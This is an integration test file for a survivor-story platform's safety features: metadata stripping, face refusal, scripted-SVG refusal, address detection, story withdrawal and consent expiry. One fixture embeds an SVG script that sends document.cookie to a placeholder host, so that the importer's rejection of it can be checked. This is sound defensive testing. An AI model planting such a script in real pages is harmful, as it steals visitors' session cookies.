"""Survivor safety through the real services: photographs imported with nothing but their pixels,
faces and scripted drawings refused, withdrawal that takes every asset down, and consent expiry
unpublishing a story from the daily timer (fired through devhost's admin endpoint)."""

from __future__ import annotations

import datetime as dt
import json
import logging
import re
import secrets
import time
from pathlib import Path

import pytest
import requests

from tests.integration.test_ops_cli import ROOT, ops
from tests.photos import assert_no_metadata, jpeg_with_metadata, png_with_metadata, sample

SAMPLE = min((ROOT / "sample_data" / "stories").glob("*.json"))


def story_file(tmp_path: Path, cover: tuple[str, bytes] | None = None) -> tuple[Path, dict]:
    """A sample story under a new id, its cover replaced by `cover` (file name, bytes) written beside it;
    the journey keeps the sample drawings."""
    story = json.loads(SAMPLE.read_text())
    story.pop("sample_donations", None)
    story["id"] = "safety" + secrets.token_hex(6)
    if cover:
        name, data = cover
        (tmp_path / name).write_bytes(data)
        story["cover"] = {"file": name, "alt": "Photograph of a cup of coffee on a table"}
    path = tmp_path / f"{story['id']}.json"
    path.write_text(json.dumps(story))
    return path, story


def blob(path: str):
    from shared.clients import blob_service
    from shared.settings import get_settings

    return blob_service().get_blob_client(get_settings().map_assets_container, path)


def story_blobs(story_id: str) -> list[str]:
    from shared import assets
    from shared.clients import blob_service
    from shared.settings import get_settings

    container = blob_service().get_container_client(get_settings().map_assets_container)
    return [b.name for b in container.list_blobs(name_starts_with=assets.story_prefix(story_id))]


def max_age(cache_control: str) -> int:
    return int(re.search(r"max-age=(\d+)", cache_control).group(1))


# ------------------------------------------------------------------ safe images through `ops import`
def test_a_jpeg_with_gps_exif_is_stored_with_no_metadata_at_all(stack, tmp_path):
    from shared import assets

    photo = sample("coffee").resize((2400, 1600))
    path, story = story_file(tmp_path, cover=("harbour.jpg", jpeg_with_metadata(photo)))
    imported = ops("import", str(path))
    assert imported.returncode == 0, imported.stderr

    stored = blob(assets.story_image_path(story["id"], "harbour.jpg"))
    data = stored.download_blob().readall()  # read back from Azurite
    assert_no_metadata(data)
    import io

    from PIL import Image

    with Image.open(io.BytesIO(data)) as img:
        assert img.format == "JPEG" and img.size == (1600, 1067)
    props = stored.get_blob_properties()
    assert props.metadata == {}
    assert props.content_settings.content_type == "image/jpeg"
    assert max_age(props.content_settings.cache_control) <= int(stack.values["ASSET_SAS_MINUTES"]) * 60
    # the drawings of the journey were stored sanitised beside it, under the story's prefix only
    names = story_blobs(story["id"])
    assert len(names) == 1 + sum(1 for m in story["journey"] if m.get("image"))
    assert all(n.startswith(f"stories/{story['id']}/") for n in names)


def test_a_photograph_with_a_face_is_refused_and_nothing_is_stored(stack, tmp_path):
    from shared import store

    path, story = story_file(tmp_path, cover=("portrait.png", png_with_metadata(sample("astronaut"))))
    checked = ops("check", str(path))
    assert checked.returncode == 1 and "cover: image refused: a face was found" in checked.stdout
    refused = ops("import", str(path))
    assert refused.returncode == 1 and "cover: image refused: a face was found" in refused.stderr
    with pytest.raises(store.NotFound):
        store.get_story(story["id"])
    assert story_blobs(story["id"]) == []


def test_a_scripted_svg_is_refused(stack, tmp_path):
    svg = (
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>A boat</title>'
        b'<rect width="10" height="10"/><script>fetch("https://example.org/?c="+document.cookie)</script></svg>'
    )
    path, story = story_file(tmp_path, cover=("boat.svg", svg))
    refused = ops("import", str(path))
    assert refused.returncode == 1
    assert "cover: image refused: the drawing contains a script" in refused.stderr
    assert story_blobs(story["id"]) == []


def test_text_in_a_drawing_goes_through_the_privacy_gate(stack, tmp_path):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Her house</title><text>Soi 11, 45/2 Moo 6</text></svg>'
    path, _ = story_file(tmp_path, cover=("house.svg", svg))
    refused = ops("import", str(path))
    assert refused.returncode == 1
    assert "cover (text in the drawing): contains a street address or postcode" in refused.stderr


# ------------------------------------------------------------------ withdrawal
def _asset_urls(api: str, story_id: str) -> list[str]:
    body = requests.get(f"{api}/api/stories/{story_id}").json()
    listed = requests.get(f"{api}/api/stories", params={"limit": 50}).json()["items"]
    urls = [body["cover"]["url"]] + [m["image"]["url"] for m in body["journey"] if m["image"]]
    urls += [i["cover"]["url"] for i in listed if i["id"] == story_id]
    return urls


def test_withdraw_takes_every_asset_and_the_story_down_everywhere(api, stack, seeded, tmp_path, monkeypatch):
    from ops.seed import sample_payment
    from shared import funding
    from shared.models import StoryDoc

    path, raw = story_file(tmp_path, cover=("harbour.jpg", jpeg_with_metadata(sample("rocket"))))
    sid = raw["id"]
    assert ops("import", str(path)).returncode == 0
    assert ops("publish", sid).returncode == 0
    story = StoryDoc.model_validate(raw)
    gift = {"need": story.needs[0].need, "amount": 50000, "display_name": "A friend in Lyon", "day": "2026-07-14"}
    assert funding.settle(sample_payment(story, 1, gift)) == "applied"

    urls = _asset_urls(api, sid)
    assert len(urls) >= 4
    for url in urls:
        r = requests.get(url)
        assert r.status_code == 200, url
        assert max_age(r.headers["Cache-Control"]) <= int(stack.values["ASSET_SAS_MINUTES"]) * 60
    detail = requests.get(f"{api}/api/stories/{sid}").json()
    icons = [m["icon_url"] for m in detail["journey"]] + [detail["basemap_url"]]
    assert requests.get(f"{api}/api/stories/{sid}/journey.geojson").status_code == 200
    assert requests.get(f"{api}/api/stories/{sid}/funding").json()["items"]

    monkeypatch.setenv("ASSET_BASE_URL", "https://cdn.example.org/assets")  # for the ops process only
    withdrawn = ops("withdraw", sid)
    assert withdrawn.returncode == 0, withdrawn.stderr
    assert "images are deleted" in withdrawn.stdout
    assert f"purge /stories/{sid}/* from the CDN" in withdrawn.stdout

    for url in urls:  # SAS URLs given out before, still within their lifetime
        assert requests.get(url).status_code == 404, url
    for route in ("", "/journey.geojson", "/funding"):
        r = requests.get(f"{api}/api/stories/{sid}{route}")
        assert r.status_code == 404 and r.json()["error"]["code"] == "story_not_found"
    deadline = time.monotonic() + int(stack.values["STORY_LIST_CACHE_SECONDS"]) + 5  # other instances' list cache
    while sid in {i["id"] for i in requests.get(f"{api}/api/stories", params={"limit": 50}).json()["items"]}:
        assert time.monotonic() < deadline, "the story is still listed"
        time.sleep(0.5)
    assert story_blobs(sid) == []
    for url in icons:  # what every story shares stays
        assert requests.get(url).status_code == 200


def test_story_assets_cache_no_longer_than_a_sas_url_shared_assets_a_day(api, stack, seeded):
    from shared import assets

    sid = next(s.id for s in seeded.values() if s.status == "published" and s.cover)
    story = seeded[sid]
    cover = blob(assets.story_image_path(sid, story.cover.file)).get_blob_properties()
    assert max_age(cover.content_settings.cache_control) == int(stack.values["ASSET_SAS_MINUTES"]) * 60
    icon = blob(assets.icon_path("home")).get_blob_properties()
    assert max_age(icon.content_settings.cache_control) == 86400


# ------------------------------------------------------------------ consent expiry
def test_a_story_whose_consent_expired_yesterday_is_unpublished_by_the_daily_timer(api, stack, caplog):
    """Consent expiry is a month: `expires` is the first month it no longer covers. Yesterday's month has
    begun by today whatever the date, so a consent expiring in it has expired."""
    from shared import assets, store
    from shared.models import StoryDoc
    from tests.factories import story as make_story

    today = dt.datetime.now(dt.UTC).date()
    yesterday = today - dt.timedelta(days=1)

    def published(expires: str):
        raw = make_story(story_id="consent" + secrets.token_hex(6)).model_dump()
        raw["consent"]["expires"] = expires
        raw["cover"] = {"file": "x/cover.svg", "alt": "Drawing of a boat"}
        s = StoryDoc.model_validate(raw)
        store.upsert_story(s)
        assets.upload(
            assets.story_image_path(s.id, "cover.svg"),
            b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>',
            "image/svg+xml",
        )
        return s

    expired = published(yesterday.strftime("%Y-%m"))
    current = published(str(today.year + 1))
    cover_url = requests.get(f"{api}/api/stories/{expired.id}").json()["cover"]["url"]
    assert requests.get(cover_url).status_code == 200

    caplog.set_level(logging.INFO)
    fire = f"{api}/admin/functions/expire_consents"
    assert requests.post(fire).status_code == 401  # the host's admin endpoint needs a key
    assert requests.post(fire, headers={"x-functions-key": stack.values["DEVHOST_FUNCTION_KEY"]}).status_code == 202

    assert requests.get(f"{api}/api/stories/{expired.id}").status_code == 404
    assert requests.get(cover_url).status_code == 404
    assert requests.get(f"{api}/api/stories/{current.id}").status_code == 200
    doc, _ = store.get_story(expired.id)
    assert doc.status == "withdrawn"
    assert doc.model_extra["withdrawn_reason"] == f"consent expired {expired.consent.expires}"
    assert f"consent expired: story {expired.id} unpublished" in caplog.text
    assert f"story {current.id} unpublished" not in caplog.text

    # and an expired consent cannot be published again
    raw = make_story(story_id="consent" + secrets.token_hex(6), status="draft").model_dump()
    raw["consent"]["expires"] = yesterday.strftime("%Y-%m")
    draft = StoryDoc.model_validate(raw)
    store.upsert_story(draft)
    refused = ops("publish", draft.id)
    assert refused.returncode == 1 and "consent expired" in refused.stderr
